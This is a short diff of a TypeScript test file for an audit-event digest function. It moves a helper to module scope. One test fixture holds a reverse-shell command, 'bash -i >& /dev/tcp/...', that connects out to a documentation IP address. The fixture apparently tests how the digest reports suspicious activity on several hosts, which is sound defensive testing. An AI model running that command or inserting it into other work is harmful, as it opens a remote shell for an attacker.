@@ -52,8 +52,9 @@ test("a digest says who did what, what stands out, and how all adds up", () => {
   `);
 });
 
+const on = (hostname: string) => ({ user: "eve", host_metadata: { hostname } });
+
 test("of several hosts the one that most happened on is said once, others where they differ", () => {
-  const on = (hostname: string) => ({ user: "eve", host_metadata: { hostname } });
   const text = digestText([
     ...routine,
     audit("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", on("web-3")),
